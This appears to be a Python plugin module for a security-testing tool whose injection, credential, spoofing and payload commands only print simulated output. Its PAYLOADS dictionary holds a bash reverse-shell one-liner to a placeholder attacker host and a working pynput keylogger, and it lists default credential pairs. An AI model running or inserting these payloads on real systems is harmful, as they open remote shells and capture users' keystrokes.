"""
simulations.py
--------------

Illustrative security-testing commands.  None of them sends anything over
the network: they only print what a real test would look like.
"""

from __future__ import annotations

import random
from pathlib import Path
from typing import List

from enum_tool.core import BasePlugin

WEAK_CREDENTIALS = [("admin", "admin"), ("root", "root"), ("user", "password"), ("test", "test")]

SPOOF_USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    "curl/7.68.0",
    "Wget/1.20.3 (linux-gnu)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)",
]

PAYLOADS = {
    "reverse_shell": (
        "Reverse Shell Payload (bash):",
        "bash -i >& /dev/tcp/<attacker_ip>/<port> 0>&1",
    ),
    "keylogger": (
        "Keylogger Payload (Python):",
        "import pynput.keyboard\n"
        "def on_press(key):\n"
        "    with open('keys.txt','a') as f:\n"
        "        f.write(str(key)+'\\n')\n"
        "from pynput import keyboard\n"
        "with keyboard.Listener(on_press=on_press) as l: l.join()",
    ),
}

INJECT_MODES = {
    "--sql": ("[SQLi] Sending payload to {target}...", "No SQL error detected (simulation)."),
    "--xss": ("[XSS] Injecting script into {target}...", "No XSS reflected (simulation)."),
    "--cmd": ("[CMD] Attempting command injection on {target}...", "No command executed (simulation)."),
}


def random_mac(rng: random.Random) -> str:
    return ":".join(f"{rng.randint(0, 255):X}" for _ in range(6))


def random_ip(rng: random.Random) -> str:
    return ".".join(str(rng.randint(1, 254)) for _ in range(4))


class InjectPlugin(BasePlugin):
    name = "Inject"
    command = "inject"
    usage = "inject [target] [payload] [--sql|--xss|--cmd]"
    description = "Simulate an injection attempt"
    priority = 40

    async def run(self, args: List[str], out_dir: Path) -> bool:
        if len(args) < 3:
            return self.fail(f"Usage: {self.usage}", out_dir)
        target, payload, mode = args[:3]
        self.log(f"Simulating injection on {target} with payload: {payload}", out_dir)
        if mode not in INJECT_MODES:
            return self.fail("Unknown mode. Use --sql, --xss, or --cmd", out_dir)
        action, verdict = INJECT_MODES[mode]
        self.log(action.format(target=target), out_dir, level="DIR")
        self.log(f"[ OK ] {verdict}", out_dir, level="OK")
        return True


class AuthBypassPlugin(BasePlugin):
    name = "AuthBypass"
    command = "auth_bypass"
    usage = "auth_bypass [target]"
    description = "Simulate default-credential login attempts"
    priority = 41

    async def run(self, args: List[str], out_dir: Path) -> bool:
        if not args:
            return self.fail(f"Usage: {self.usage}", out_dir)
        target = args[0]
        self.log(f"Testing authentication bypass on {target}...", out_dir)
        for user, password in WEAK_CREDENTIALS:
            self.log(f"  - Trying {user}/{password}... fail", out_dir, level="WARN")
        self.log("[ OK ] No weak authentication found (simulation).", out_dir, level="OK")
        return True


class SpoofPlugin(BasePlugin):
    name = "Spoof"
    command = "spoof"
    usage = "spoof [mac|ip|dns|user-agent] [--randomize]"
    description = "Simulate MAC/IP/DNS/User-Agent spoofing"
    priority = 42

    def __init__(self, context) -> None:
        super().__init__(context)
        self.rng = random.Random()

    async def run(self, args: List[str], out_dir: Path) -> bool:
        if not args:
            return self.fail(f"Usage: {self.usage}", out_dir)
        kind = args[0]
        randomize = len(args) > 1 and args[1] == "--randomize"
        if kind == "mac":
            if randomize:
                self.log(f"Randomized MAC: {random_mac(self.rng)}", out_dir)
            else:
                self.log("Spoofing MAC address (simulation)...", out_dir)
        elif kind == "ip":
            if randomize:
                self.log(f"Randomized IP: {random_ip(self.rng)}", out_dir)
            else:
                self.log("Spoofing IP address (simulation)...", out_dir)
        elif kind == "dns":
            self.log("Spoofing DNS (simulation)...", out_dir)
        elif kind == "user-agent":
            self.log(f"Spoofed User-Agent: {self.rng.choice(SPOOF_USER_AGENTS)}", out_dir)
        else:
            return self.fail("Unknown spoof type. Use mac, ip, dns, or user-agent", out_dir)
        return True


class PayloadGenPlugin(BasePlugin):
    name = "PayloadGen"
    command = "payload_gen"
    usage = "payload_gen <reverse_shell|keylogger>"
    description = "Print an example payload"
    priority = 43

    async def run(self, args: List[str], out_dir: Path) -> bool:
        kind = args[0].lower() if args else ""
        if kind not in PAYLOADS:
            return self.fail(f"Supported types: {', '.join(PAYLOADS)}. Usage: {self.usage}", out_dir)
        title, body = PAYLOADS[kind]
        self.log(title, out_dir, level="INFO")
        for line in body.splitlines():
            self.log(line, out_dir, level="WARN")
        return True
